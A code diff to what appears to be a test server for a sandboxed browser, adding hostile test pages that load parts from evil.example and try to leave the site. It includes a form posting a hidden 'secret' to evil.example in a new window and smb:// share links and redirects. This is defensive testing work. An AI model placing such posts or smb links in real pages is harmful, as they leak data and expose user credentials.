@@ -365,8 +365,9 @@ def hostile_page(path: str, query) -> bytes:
         # script, a style sheet, a font, media, a WebSocket, a worker, a
         # prefetch, an icon, a preconnection and a fetch. Its own picture
         # still shows. Once every part has answered, its title says how many
-        # loaded of each site and whether the other sites' frames stayed
-        # empty, and it asks for /hostile/parts-done.
+        # loaded of each site, whether the other sites' frames stayed empty
+        # and whether it could have shared workers (whose WebSockets no
+        # request rule sees), and it asks for /hostile/parts-done.
         evil = "http://evil.example"
         return page("parts", (
             "<link rel='icon' href='%(e)s/favicon.ico'><link rel='prefetch' href='%(e)s/prefetched'>"
@@ -378,7 +379,8 @@ def hostile_page(path: str, query) -> bytes:
             "if(--waiting==0)finish();};if(ev){el.addEventListener(ev[0],()=>done(true));el.addEventListener(ev[1],()=>done(false));}return done;}"
             "function finish(){const empty=['f1','f2'].every(id=>{const d=document.getElementById(id).contentDocument;"
             "return d&&d.body&&d.body.innerHTML=='';});"
-            "document.title='parts done: '+loaded.sort().join(',')+(empty?' frames empty':' frames shown');fetch('/hostile/parts-done');}"
+            "document.title='parts done: '+loaded.sort().join(',')+(empty?' frames empty':' frames shown')+(window.SharedWorker?' shared workers':'');"
+            "fetch('/hostile/parts-done');}"
             "addEventListener('DOMContentLoaded',()=>{"
             "const add=(tag,attrs,name)=>{const e=document.createElement(tag);part(name,e,['load','error']);Object.assign(e,attrs);document.head.appendChild(e);};"
             "add('img',{src:'%(e)s/picture.png'},'evil picture');add('script',{src:'%(e)s/script.js'},'evil script');"
@@ -392,8 +394,9 @@ def hostile_page(path: str, query) -> bytes:
     if path == "/hostile/leave-ways.html":
         # Every way a page leaves for another site, each a big target for a
         # real click: a link, a script, a site address that redirects away, a
-        # new window, a form posted elsewhere, and addresses that are no web
-        # pages (a file share, directly and through a redirect). With ?auto,
+        # new window, a form posted elsewhere (here or in a new window), and
+        # addresses that are no web pages (a file share, directly and through
+        # a redirect). With ?auto,
         # the page tries all of them by itself, without end.
         there = "http://elsewhere.example/"
         ways = (
@@ -403,6 +406,8 @@ def hostile_page(path: str, query) -> bytes:
             "<button class='w' id='window' onclick=\"window.open('%(t)swindow.html')\">window</button>"
             "<form method='post' action='http://evil.example/formpost?q=1'><input type='hidden' name='secret' value='1'>"
             "<button class='w' id='form'>form</button></form>"
+            "<form method='post' action='http://evil.example/formpost?q=2' target='_blank'>"
+            "<input type='hidden' name='secret' value='2'><button class='w' id='form-window'>form in a window</button></form>"
             "<a class='w' id='share' href='smb://evil.example/share'>share</a>"
             "<a class='w' id='share-redirect' href='/redirect?to=smb://evil.example/share'>share by redirect</a>"
         ) % {"t": there}
